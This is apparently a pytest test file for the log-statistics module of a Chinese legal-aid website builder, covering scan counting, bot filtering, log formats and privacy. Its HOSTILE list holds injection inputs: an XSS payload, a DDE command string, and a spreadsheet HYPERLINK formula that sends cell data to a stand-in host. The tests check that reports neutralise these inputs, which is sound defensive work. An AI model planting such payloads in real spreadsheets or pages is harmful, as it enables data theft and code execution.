"""pufa stats on generated logs against a small built-site stand-in: formats, damaged lines,
rotation order, residents, robots, untagged codes, site path, dates, filters, hostile strings,
privacy of search terms, no address in any output, memory bounded by the day."""

from __future__ import annotations

import datetime as dt
import gzip
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from site_builder.content import load
from site_builder.content.tags import placement_tag, tagged_url
from site_builder.errors import UnsafeOutput
from site_builder.safefs import Protected
from site_builder.stats import StatsOptions, count_logs, run_stats
from site_builder.stats.counter import OPEN_DAYS, Counting, _Day
from site_builder.stats.html import report_html
from site_builder.stats.logformat import LineParser, LogFormatError
from site_builder.stats.views import Names, Report, build_report
from site_builder.stats.xlsx import workbook_bytes

SITE_URL = "https://pufa.example.cn/sfj/pufa/"
P = "/sfj/pufa/"
PHONE = "Mozilla/5.0 (Linux; Android 12) AppleWebKit/537.36 Mobile Safari/537.36 MicroMessenger/8.0"
D1, D2 = dt.date(2026, 11, 2), dt.date(2026, 11, 3)
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
NAMES = Names(
    villages={"lanxin": ("蓝欣社区", "北渡街道"), "caozhen": ("曹镇村", "曹镇乡")},
    cases={"lease-deposit": "房东不退押金"},
)
ENTRIES: list[dict[str, Any]] = [
    {"file": "print/card-sheet/lanxin.pdf", "kind": "card-sheet", "name": "便民卡拼版"},
    {"file": "print/board/lanxin.pdf", "kind": "board", "name": "联系公示牌"},
    {"file": "print/board/lanxin.png", "kind": "board", "name": "联系公示牌"},
    {"file": "print/service-map/lanxin.pdf", "kind": "service-map", "name": "十分钟法律服务圈海报"},
    {"file": "print/board/caozhen.pdf", "kind": "board", "name": "联系公示牌", "v": "caozhen"},
    {
        "file": "print/case-poster/lease-deposit--lanxin.png",
        "kind": "case-poster",
        "name": "案例海报",
        "source": "cases/lease-deposit.md",
        "qr": [SITE_URL + "cases/lease-deposit/"],
    },
    {
        "file": "print/case-poster/lease-deposit.png",
        "kind": "case-poster",
        "name": "案例海报",
        "source": "cases/lease-deposit.md",
        "village": None,
        "qr": [SITE_URL + "cases/lease-deposit/"],
    },
]
PAGES = ["", "cases/", "cases/lease-deposit/", "villages/lanxin/", "villages/caozhen/", "search/"]


def _manifest() -> list[dict[str, Any]]:
    out = []
    for e in ENTRIES:
        village = e.get("v", "lanxin") if "village" not in e else e["village"]
        entry = {
            "file": e["file"],
            "kind": e["kind"],
            "name": e["name"],
            "source": e.get("source", f"villages/{village}.md"),
            "qr": e.get("qr", [f"{SITE_URL}villages/{village}/"]),
        }
        if village:
            entry["village"] = village
        out.append(entry)
    out.append({**out[0], "kind": "pack", "file": "print/pack/lanxin.pdf", "name": "打印资料包"})
    return out


@pytest.fixture
def site(tmp_path: Path) -> Path:
    root = tmp_path / "site"
    for page in [*PAGES, "assets/x/"]:
        (root / page).mkdir(parents=True, exist_ok=True)
        (root / page / "index.html").write_text("<p>x</p>", encoding="utf-8")
    (root / "print").mkdir()
    (root / "print" / "manifest.json").write_text(json.dumps(_manifest()), encoding="utf-8")
    return root


def tag_of(kind: str, village: str | None, page: str, source: str | None = None) -> str:
    src = source or f"villages/{village}.md"
    return placement_tag(kind, village, src, SITE_URL + page)


SHEET = "villages/lanxin/?m=" + tag_of("card-sheet", "lanxin", "villages/lanxin/")
BOARD = "villages/lanxin/?m=" + tag_of("board", "lanxin", "villages/lanxin/")
CAOZHEN = "villages/caozhen/?m=" + tag_of("board", "caozhen", "villages/caozhen/")
POSTER = "cases/lease-deposit/?m=" + tag_of(
    "case-poster", "lanxin", "cases/lease-deposit/", "cases/lease-deposit.md"
)


def line(
    addr: str,
    day: dt.date,
    target: str,
    ua: str = PHONE,
    status: int = 200,
    method: str = "GET",
    clock: str = "10:00:00",
) -> str:
    stamp = f"{day.day:02d}/{MONTHS[day.month - 1]}/{day.year}:{clock} +0800"
    path = target if target.startswith(("/", "http")) else P + target
    return f'{addr} - - [{stamp}] "{method} {path} HTTP/1.1" {status} 512 "-" "{ua}"'


def write(path: Path, lines: list[str], gz: bool = False) -> Path:
    data = ("\n".join(lines) + "\n").encode("utf-8")
    path.write_bytes(gzip.compress(data) if gz else data)
    return path


def report(site: Path, logs: list[Path], fmt: str | None = None, **kw: Any) -> tuple[Report, Any]:
    dates = {k: kw.pop(k) for k in ("date_from", "date_to") if k in kw}
    tally, placements = count_logs(logs, site, SITE_URL, fmt, **dates)
    return build_report(tally, placements, NAMES, set(), **kw), tally


def rows(r: Report, key: str) -> dict[str, int]:
    t = r.table(key)
    col = 2 if key == "villages" else 1
    return {str(row[0]): int(row[col]) for row in t.rows}


def test_scans_visits_and_residents(site: Path, tmp_path: Path) -> None:
    log = write(
        tmp_path / "access.log",
        [
            line("10.0.0.1", D1, SHEET),
            line("10.0.0.1", D1, SHEET, clock="10:05:00"),  # a reload: one scan
            line("10.0.0.1", D1, BOARD),
            line("10.0.0.2", D1, SHEET),
            line("10.0.0.2", D1, SHEET, ua=PHONE + " Android 13"),  # another browser
            line("10.0.0.1", D2, SHEET),  # the next day: again
            line("10.0.0.3", D2, POSTER),
            line("10.0.0.3", D2, CAOZHEN),
            line("10.0.0.4", D2, "villages/lanxin/"),  # an untagged (old) code: a visit
            line("10.0.0.4", D2, "villages/lanxin/?m=zzzzz"),  # an unknown tag
        ],
    )
    r, tally = report(site, [log])
    assert rows(r, "villages") == {"蓝欣社区": 6, "曹镇村": 1}
    assert rows(r, "products") == {"便民卡拼版": 4, "联系公示牌": 2, "案例海报": 1}
    assert rows(r, "cases") == {"房东不退押金": 1}
    assert tally.residents == {D1: 3, D2: 3}
    assert sum(tally.unknown_scans.values()) == 1
    visits = {p: n for (_, p), n in tally.visits.items()}
    assert tally.visits[(D2, "villages/lanxin/")] == 2 and visits["cases/lease-deposit/"] == 1
    assert r.table("villages").total == ["合计", "", 7, 6, 4]


def test_robots_previews_and_checks_left_out(site: Path, tmp_path: Path) -> None:
    robots = [
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
        "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
        "facebookexternalhit/1.1",
        "WhatsApp/2.23.20.0 A",
        "Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)",
        "pufa-check/1.0 (+pufa verify)",
        "python-requests/2.31",
        "-",
        "",
    ]
    log = write(
        tmp_path / "a.log", [line(f"10.0.1.{i}", D1, SHEET, ua=u) for i, u in enumerate(robots)]
    )
    r, tally = report(site, [log])
    assert tally.skipped.robots == len(robots) and not tally.scans and not tally.residents


def test_only_the_sites_own_pages_count(site: Path, tmp_path: Path) -> None:
    log = write(
        tmp_path / "a.log",
        [
            line("10.0.0.1", D1, "/other-dept/villages/lanxin/?m=abcde"),
            line("10.0.0.1", D1, "/sfj/pufa-old/" + SHEET),
            line("10.0.0.1", D1, SHEET, method="POST"),
            line("10.0.0.1", D1, SHEET, method="HEAD"),
            line("10.0.0.1", D1, SHEET, status=404),
            line("10.0.0.1", D1, "assets/x/"),
            line("10.0.0.1", D1, "print/card-sheet/lanxin.pdf?m=abcde"),
            line("10.0.0.1", D1, "no-such-page/"),
            line("10.0.0.1", D1, "https://pufa.example.cn" + P + SHEET),  # absolute form: counts
            line("10.0.0.2", D1, SHEET, status=304),  # revalidated: counts
        ],
    )
    r, tally = report(site, [log])
    assert tally.skipped.outside == 2 and tally.skipped.not_pages == 6
    assert rows(r, "products") == {"便民卡拼版": 2}


def test_malformed_lines_skipped_with_a_summary(site: Path, tmp_path: Path) -> None:
    good = line("10.0.0.1", D1, SHEET)
    text = (
        "\n".join(
            [
                good,
                "",
                "garbage",
                good[:40],
                good.replace("02/Nov/2026", "32/Nov/2026"),
                good.replace("Nov", "Foo"),
                good.replace(" 200 ", " OK "),
                "x" * 20_000,
                line("10.0.0.2", D1, SHEET),
            ]
        ).encode()
        + b"\n\xff\xfe\x00 binary \x80\n"
    )
    log = tmp_path / "access.log"
    log.write_bytes(text)
    truncated = tmp_path / "access.log.2.gz"
    truncated.write_bytes(
        gzip.compress(("\n".join([line("10.0.0.3", D2, SHEET)] * 500)).encode())[:-40]
    )
    r, tally = report(site, [log, truncated])
    assert tally.skipped.malformed == 8
    assert rows(r, "products")["便民卡拼版"] == 3  # the truncated file's lines up to its end
    notes = " ".join(r.notes)
    assert "有 8 行日志格式不对，已跳过（如 access.log:2、access.log:3" in notes
    assert "access.log.2.gz：压缩文件不完整" in notes


def test_rotated_files_in_any_order(site: Path, tmp_path: Path) -> None:
    days = [D1 + dt.timedelta(days=i) for i in range(6)]
    files = []
    for i, d in enumerate(days):
        lines = [line(f"10.0.{i}.{k}", d, SHEET if k % 2 else BOARD) for k in range(20)]
        lines.append(line("10.9.9.9", d, SHEET, clock="23:59:59"))
        files.append(write(tmp_path / f"access.log.{5 - i}", lines, gz=i % 2 == 0))
    tallies = [report(site, order)[1] for order in (files, files[::-1], files[2:] + files[:2])]
    for t in tallies[1:]:
        assert (t.scans, t.residents, t.visits) == (
            tallies[0].scans,
            tallies[0].residents,
            tallies[0].visits,
        )
    assert sum(tallies[0].residents.values()) == 6 * 21


def test_memory_bounded_by_the_residents_of_a_day(site: Path, tmp_path: Path) -> None:
    lines = []
    for i in range(30):
        d = D1 + dt.timedelta(days=i)
        lines += [line(f"10.{i}.0.{k}", d, SHEET) for k in range(50)]
    log = write(tmp_path / "a.log", lines)
    peak = 0
    original = Counting._day

    def spy(self: Counting, day: dt.date) -> _Day:
        nonlocal peak
        state = original(self, day)
        peak = max(peak, sum(len(s.residents) + len(s.scans) for s in self._open.values()))
        assert len(self._open) <= OPEN_DAYS
        return state

    Counting._day = spy  # type: ignore[method-assign]
    try:
        _, tally = report(site, [log])
    finally:
        Counting._day = original  # type: ignore[method-assign]
    assert sum(tally.residents.values()) == 1500
    assert peak <= OPEN_DAYS * 100


def test_dates_and_filters(site: Path, tmp_path: Path) -> None:
    log = write(
        tmp_path / "a.log",
        [line("10.0.0.1", D1, SHEET), line("10.0.0.1", D2, SHEET), line("10.0.0.2", D2, CAOZHEN)],
    )
    r, tally = report(site, [log], date_from=D2, date_to=D2)
    assert tally.skipped.out_of_range == 1 and rows(r, "products") == {
        "便民卡拼版": 1,
        "联系公示牌": 1,
    }
    r, _ = report(site, [log], township="曹镇乡")
    assert rows(r, "villages") == {"曹镇村": 1} and rows(r, "products") == {"联系公示牌": 1}
    r, _ = report(site, [log], village="lanxin")
    assert r.village == "蓝欣社区"
    scanned = {p.name: (p.scans, p.first, p.last) for p in r.village_placements if p.scans}
    assert scanned == {"便民卡拼版": (2, D1, D2)}
    never = {p.name for p in r.village_placements if not p.scans}
    assert never == {"联系公示牌", "十分钟法律服务圈海报", "案例海报：房东不退押金"}
    html = report_html(r)
    assert "蓝欣社区：哪些印刷品被扫码了" in html and "2026-11-02" in html


def test_custom_log_format(site: Path, tmp_path: Path) -> None:
    fmt = (
        '$host $remote_addr [$time_iso8601] "$request_method $request_uri" $status '
        '$request_time "$http_user_agent" "$http_x_forwarded_for" $upstream_addr'
    )
    ok = f'pufa.example.cn 10.0.0.1 [2026-11-02T10:00:00+08:00] "GET {P}{SHEET}" 200 0.004 "{PHONE}" "1.2.3.4" -'
    other = ok.replace("pufa.example.cn", "www.other.gov.cn", 1)
    log = write(tmp_path / "a.log", [ok, other, "bad"])
    r, tally = report(site, [log], fmt)
    assert rows(r, "products") == {"便民卡拼版": 1}
    assert tally.skipped.outside == 1 and tally.skipped.malformed == 1
    with pytest.raises(LogFormatError, match=r"\$remote_addr"):
        LineParser('$http_x_forwarded_for [$time_local] "$request" $status "$http_user_agent"')


def test_apache_and_nginx_escapes() -> None:
    parser = LineParser()
    apache = '10.0.0.1 - - [02/Nov/2026:10:00:00 +0800] "GET /x/ HTTP/1.1" 200 5 "-" "A \\"q\\" B"'
    nginx = '10.0.0.1 - - [02/Nov/2026:10:00:00 +0800] "GET /x/ HTTP/1.1" 200 5 "-" "A \\x22q B"'
    assert parser.parse(apache).ua == 'A \\"q\\" B'  # type: ignore[union-attr]
    assert parser.parse(nginx).ua == "A \\x22q B"  # type: ignore[union-attr]


def test_site_yml_stats_log_format(content_copy: Path) -> None:
    site_yml = content_copy / "site.yml"
    site_yml.write_text(
        site_yml.read_text(encoding="utf-8")
        + 'stats:\n  log_format: \'$remote_addr [$time_local] "$request" $status "$http_user_agent"\'\n',
        encoding="utf-8",
    )
    assert load(content_copy).site.stats.log_format.startswith("$remote_addr [")  # type: ignore[union-attr]


HOSTILE = [
    '=HYPERLINK("http://e.vil/?"&A1,"点我")',
    "<img src=x onerror=alert(1)>",
    "+cmd|' /C calc'!A0",
    "13812345678",
    "我的电话 138-1234-5678",
    "张三 身份证 410402199001011234",
]


def test_hostile_strings_inert_or_left_out(site: Path, tmp_path: Path) -> None:
    from urllib.parse import quote

    lines = []
    for k in range(3):  # three residents type each term: enough to be shown
        for term in [*HOSTILE, "押金"]:
            lines.append(line(f"10.0.0.{k}", D1, "search/?q=" + quote(term)))
    lines.append(line("10.0.0.9", D1, "search/?q=" + quote("离婚")))  # one resident: not shown
    lines.append(line("10.0.0.9", D1, SHEET, ua='<script>alert(1)</script> =HYPERLINK("x")'))
    log = write(tmp_path / "a.log", lines)
    r, _ = report(site, [log])
    terms = rows(r, "search")
    assert set(terms) == {t.lower() for t in HOSTILE[:3]} | {"押金"}
    html = report_html(r)
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<script>" not in html
    xlsx = tmp_path / "r.xlsx"
    xlsx.write_bytes(workbook_bytes(r))
    with zipfile.ZipFile(xlsx) as z:
        xml = b"".join(z.read(n) for n in z.namelist())
    assert b"<f>" not in xml  # no formula anywhere
    ws = load_workbook(xlsx)["搜索词"]
    cells = {c.value: c for row in ws.iter_rows() for c in row}
    for term in HOSTILE[:3]:
        assert cells[term.lower()].data_type == "s"
    assert cells[HOSTILE[0].lower()].quotePrefix and cells[HOSTILE[2].lower()].quotePrefix
    for data in (html.encode(), xml):
        assert b"1381234" not in data and b"138-1234" not in data and b"41040219" not in data
        assert "离婚".encode() not in data


def test_no_address_in_any_output(content_copy: Path, site: Path, tmp_path: Path) -> None:
    addrs = [f"203.0.113.{i}" for i in range(1, 6)] + ["2001:db8::1"]
    lines = [line(a, D1, SHEET) for a in addrs]
    lines += [line(a, D1, "search/?q=" + a) for a in addrs]  # an address typed as a term
    log = write(tmp_path / "a.log", lines)
    content = load(content_copy)
    out = tmp_path / "out"
    opts = StatsOptions(
        [log], site, SITE_URL, out, Protected(content_copy, tmp_path / "themes", tmp_path)
    )
    result = run_stats(opts, content)
    assert result.tally.residents == {D1: 6}
    for f in out.iterdir():
        data = f.read_bytes()
        if f.suffix == ".xlsx":
            with zipfile.ZipFile(f) as z:
                data = b"".join(z.read(n) for n in z.namelist())
        assert not re.search(rb"203\.0\.113|2001:db8", data), f


def test_report_never_written_into_the_content_folder(
    content_copy: Path, site: Path, tmp_path: Path
) -> None:
    log = write(tmp_path / "a.log", [line("10.0.0.1", D1, SHEET)])
    protected = Protected(content_copy, tmp_path / "themes", tmp_path)
    for out in (content_copy / "报告", content_copy):
        with pytest.raises(UnsafeOutput):
            run_stats(StatsOptions([log], site, SITE_URL, out, protected), load(content_copy))
    assert not (content_copy / "报告").exists()


def test_recorded_tags_and_shared_ones(site: Path, tmp_path: Path) -> None:
    entries = _manifest()
    entries[0]["tags"] = {entries[0]["qr"][0]: "aaaaa"}  # what print will record
    entries[1]["tags"] = {entries[1]["qr"][0]: "bbbbb"}
    entries[2]["tags"] = {entries[2]["qr"][0]: "bbbbb"}  # PNG of the same board: fine
    entries[3]["tags"] = {entries[3]["qr"][0]: "bbbbb"}  # another artifact, same code
    entries[4]["qr"] = [tagged_url(entries[4]["qr"][0], "ccccc")]  # tagged URLs listed
    (site / "print" / "manifest.json").write_text(json.dumps(entries), encoding="utf-8")
    log = write(
        tmp_path / "a.log",
        [
            line("10.0.0.1", D1, "villages/lanxin/?m=aaaaa"),
            line("10.0.0.1", D1, "villages/lanxin/?m=bbbbb"),
            line("10.0.0.1", D1, "villages/caozhen/?m=ccccc"),
            line("10.0.0.1", D1, SHEET),  # the computed tag: no longer on the sheet
        ],
    )
    r, tally = report(site, [log])
    assert rows(r, "products") == {"便民卡拼版": 1, "联系公示牌": 2}
    assert sum(tally.unknown_scans.values()) == 1
    assert any("由几件印刷品共用" in n for n in r.notes)
